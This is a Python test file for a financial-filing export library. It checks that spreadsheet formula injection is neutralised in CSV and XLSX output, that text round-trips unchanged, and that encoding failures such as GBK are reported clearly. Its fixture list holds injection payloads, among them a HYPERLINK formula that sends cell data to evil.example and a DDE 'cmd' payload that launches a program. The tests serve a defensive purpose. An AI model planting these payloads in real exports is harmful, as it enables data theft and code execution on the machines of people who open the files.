"""Hostile text (formula-like, long, emoji, GBK-only) exports safely and reads back as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from abs.errors import ExportError
from abs.filing import (
    Column,
    ColumnKind,
    FilingTable,
    TableBlock,
    render_csv,
    render_json,
    render_xlsx,
    tables_from_document,
    unneutralise_csv,
)
from abs.filing.sanitize import FORMULA_TRIGGERS, is_risky, neutralise_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1 (tab first)",
    "\r=1+1 (CR first)",
    "-",
    "'=already quoted",
    "'plain apostrophe",
    "债" * 10_000,
    "x" * 10_000,
    "数据资产 😀🚀 emoji",
    "刘䶮 (U+4DAE, CJK Ext A)",
    "𠀀 (U+20000, CJK Ext B)",
    'quote " comma , semicolon ;',
    "line\nbreak",
    "  leading spaces",
    "青岛某银行股份有限公司(示例)",
]


def _hostile_sheet() -> FilingTable:
    cols = (
        Column("obligor", "债务人名称"),
        Column("asset_id", "资产编号"),
        Column("amount", "入池金额", ColumnKind.MONEY),
        Column("maturity", "到期日", ColumnKind.DATE),
    )
    rows = tuple(
        (text, f"ID-{i:03d}", -1000.0 * i, dt.date(2026, 1, 1) + dt.timedelta(days=i))
        for i, text in enumerate(HOSTILE)
    )
    block = TableBlock(key="assets", title="入池资产明细", columns=cols, rows=rows)
    return FilingTable(
        key="asset_list", sheet="入池资产明细", sheet_en="Asset list", note="=note", blocks=(block,)
    )


def _ooxml_stored(text: str) -> str:
    """What a reader that does not decode OOXML ``_xHHHH_`` escapes (openpyxl) returns.

    xlsx strings cannot hold most control characters; the format stores them as ``_xHHHH_``
    (ECMA-376 ST_Xstring), which Excel and LibreOffice decode. Tab and LF are stored as is.
    """
    return re.sub(
        r"[\x00-\x08\x0b\x0c\x0d\x0e-\x1f\ufffe\uffff]", lambda m: f"_x{ord(m.group()):04X}_", text
    )


def test_sanitize_rules() -> None:
    assert {"=", "+", "-", "@", "\t", "\r"} == FORMULA_TRIGGERS
    assert [is_risky(t) for t in ("=a", "+a", "-a", "@a", "\ta", "\ra", "a=", "", " =a")] == [
        True,
        True,
        True,
        True,
        True,
        True,
        False,
        False,
        False,
    ]
    assert neutralise_csv("-2") == "'-2"
    assert neutralise_csv("'x") == "''x"
    assert neutralise_csv("普通") == "普通"


@given(st.text())
def test_csv_neutralisation_is_reversible_and_inert(text: str) -> None:
    out = neutralise_csv(text)
    assert unneutralise_csv(out) == text
    assert not is_risky(out)


def test_xlsx_reads_back_identically_and_never_as_formula() -> None:
    data = render_xlsx([_hostile_sheet()])
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb["入池资产明细"]
    assert ws["A2"].value == "=note" and ws["A2"].data_type == "s"
    header_row = 5  # title, note, blank, block title, header
    for i, text in enumerate(HOSTILE):
        cell = ws.cell(header_row + 1 + i, 1)
        assert cell.data_type == "s", text[:20]  # a string, never a formula ("f")
        assert cell.value == _ooxml_stored(text)
        assert cell.quotePrefix is is_risky(text)
        amount = ws.cell(header_row + 1 + i, 3)
        assert amount.data_type == "n"  # negative numbers are numbers, untouched
        assert amount.value == pytest.approx(-0.1 * i)
        assert amount.quotePrefix is False


def test_xlsx_cell_limit_is_a_clear_error() -> None:
    sheet = _hostile_sheet()
    block = sheet.blocks[0]
    long_row = ("长" * 32_768, "ID-X", 1.0, None)
    big = TableBlock(key="assets", title=None, columns=block.columns, rows=(*block.rows, long_row))
    bad = FilingTable(key="asset_list", sheet="入池资产明细", sheet_en="x", note="", blocks=(big,))
    with pytest.raises(
        ExportError,
        match=r"sheet '入池资产明细', table 'assets', row 21, column 'obligor': text of 32768 "
        r"characters exceeds Excel's limit of 32767",
    ):
        render_xlsx([bad])


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "gb18030"])
def test_csv_reads_back_identically(encoding: str) -> None:
    files = render_csv([_hostile_sheet()], encoding=encoding)
    raw = files["01_入池资产明细.csv"]
    assert raw.startswith(b"\xef\xbb\xbf") is (encoding == "utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw.decode(encoding), newline="")))
    assert rows[0] == ["债务人名称", "资产编号", "入池金额(元)", "到期日"]
    for i, text in enumerate(HOSTILE):
        cell = rows[1 + i][0]
        assert not is_risky(cell)
        assert unneutralise_csv(cell) == text
        assert cell == ("'" + text if is_risky(text) or text.startswith("'") else text)
        assert rows[1 + i][2] == f"{-1000.0 * i:.2f}".replace("-0.00", "0.00")


def test_csv_gbk_names_the_cell_that_cannot_be_encoded() -> None:
    with pytest.raises(
        ExportError,
        match=r"01_入池资产明细.csv: line 15, column 1: character '😀' \(U\+1F600\) cannot be "
        r"encoded in gbk; cell '数据资产 😀🚀 emoji'; use encoding utf-8-sig or gb18030",
    ):
        render_csv([_hostile_sheet()], encoding="gbk")


@pytest.mark.parametrize(
    ("text", "code"), [("刘䶮", "U\\+4DAE"), ("𠀀", "U\\+20000"), ("€", "U\\+20AC")]
)
def test_gbk_only_misses_are_reported(text: str, code: str) -> None:
    block = TableBlock(key="t", title=None, columns=(Column("name", "名称"),), rows=((text,),))
    sheet = FilingTable(key="s", sheet="表", sheet_en="S", note="", blocks=(block,))
    with pytest.raises(ExportError, match=rf"line 2, column 1: character .* \({code}\)"):
        render_csv([sheet], encoding="gbk")
    assert (
        render_csv([sheet], encoding="gb18030")["01_表.csv"]
        .decode("gb18030")
        .endswith(f"{text}\r\n")
    )


def test_gbk_writes_plain_chinese() -> None:
    block = TableBlock(
        key="t", title=None, columns=(Column("name", "名称"),), rows=(("如皋城投·镕",),)
    )
    sheet = FilingTable(key="s", sheet="表", sheet_en="S", note="", blocks=(block,))
    assert render_csv([sheet], encoding="gbk")["01_表.csv"] == "名称\r\n如皋城投·镕\r\n".encode(
        "gbk"
    )


def test_json_keeps_text_unchanged() -> None:
    sheet = _hostile_sheet()
    doc = json.loads(render_json([sheet]))
    rows = doc["sheets"][0]["tables"][0]["rows"]
    assert [r[0] for r in rows] == HOSTILE
    assert tables_from_document(doc) == [sheet]


_SAFE_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="_"),
    max_size=30,
) | st.sampled_from(HOSTILE[:11])


@settings(max_examples=40, deadline=None)
@given(st.lists(_SAFE_TEXT, min_size=1, max_size=8))
def test_any_text_round_trips_through_all_three_writers(texts: list[str]) -> None:
    block = TableBlock(
        key="t", title=None, columns=(Column("name", "名称"),), rows=tuple((t,) for t in texts)
    )
    sheet = FilingTable(key="s", sheet="表", sheet_en="S", note="", blocks=(block,))
    ws = openpyxl.load_workbook(io.BytesIO(render_xlsx([sheet])))["表"]
    got = [ws.cell(5 + i, 1).value for i in range(len(texts))]
    assert got == [_ooxml_stored(t) for t in texts]
    rows = list(csv.reader(io.StringIO(render_csv([sheet])["01_表.csv"].decode("utf-8-sig"))))
    assert [unneutralise_csv(r[0]) if r else "" for r in rows[1:]] == texts
    assert tables_from_document(json.loads(render_json([sheet]))) == [sheet]
